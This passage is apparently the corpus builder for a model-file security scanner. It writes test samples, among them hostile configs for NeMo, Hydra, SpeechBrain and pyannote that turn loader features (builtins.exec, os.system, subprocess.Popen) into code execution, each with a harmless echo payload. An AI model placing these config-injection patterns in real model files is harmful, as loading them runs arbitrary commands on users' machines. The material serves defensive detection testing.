               (json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
                            "feature_extractor": ["transformers", "CLIPImageProcessor"],
                            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                            "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers",
                            "CLIPTextModel"], "tokenizer": ["transformers", "CLIPTokenizer"],
                            "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"]},
                           indent=2) + "\n").encode(),
               "diffusers model_index.json of a Stable Diffusion pipeline: library components only",
               made_by="hand-written in the form diffusers save_pretrained writes")


def build_hostile_configs(corpus: Corpus) -> None:
    tests = _test_builders("test_config_targets")
    corpus.add("hostile/nemo-config-os-system.nemo", tests.hostile_nemo(), "a .nemo whose model_config.yaml "
               "builds os.system for its encoder (CVE-2025-23304)",
               rules=expect("WS-CFG-001", member="./model_config.yaml"))
    corpus.add("hostile/hydra-target-exec.yaml", b"model:\n  _target_: builtins.exec\n  _args_:\n"
               b"    - print('wscan corpus payload')\n", "Hydra config whose _target_ is builtins.exec",
               rules=expect("WS-CFG-001"))
    corpus.add("hostile/speechbrain-hparams/hyperparams.yaml",
               b"sample_rate: 16000\nlog: !apply:os.system ['echo wscan-corpus-hostile-sample']\n"
               b"compute_features: !new:speechbrain.lobes.features.Fbank\n    n_mels: 80\n",
               "SpeechBrain hyperparams.yaml whose HyperPyYAML !apply tag calls os.system when from_hparams loads it",
               rules=expect("WS-CFG-001"))
    corpus.add("hostile/pyannote-pipeline/config.yaml",
               b"pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params: {}\npreprocessors:\n"
               b"  audio:\n    name: subprocess.Popen\n    params:\n      args: [echo, wscan-corpus-hostile-sample]\n",
               "pyannote.audio config.yaml whose preprocessor is subprocess.Popen: Pipeline.from_pretrained imports "
               "and calls it", rules=expect("WS-CFG-001"))


# --- main -----------------------------------------------------------------------------------------


def build(out: Path, payload: Payload | None = None, benign: bool = True, hostile: bool = True) -> list[Sample]:
    """Write the corpus under `out` (replacing its benign/ and hostile/ folders) and its manifest."""
    out.mkdir(parents=True, exist_ok=True)
    for folder in ("benign", "hostile"):
        if (out / folder).exists():
            shutil.rmtree(out / folder)
    corpus = Corpus(out)
    if hostile:
        build_hostile(corpus, payload or Payload())
    if benign:
        build_benign(corpus)
    corpus.samples.sort(key=lambda s: s.path)
    manifest = {
        "about": "wscan sample corpus; regenerate with `python corpus/build.py`. Paths are relative to this file.",
        "rules": "a hostile sample must get every listed rule ID, at `member` (a chain a!b!c) when it is not null",
        "samples": [s.as_json() for s in corpus.samples],
    }
    (out / "MANIFEST.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    return corpus.samples


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent, help="corpus folder")
    args = parser.parse_args(argv)
    samples = build(args.out)
    total = sum((args.out / s.path).stat().st_size for s in samples)
    print(f"wrote {len(samples)} samples ({total / MIB:.2f} MiB) under {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
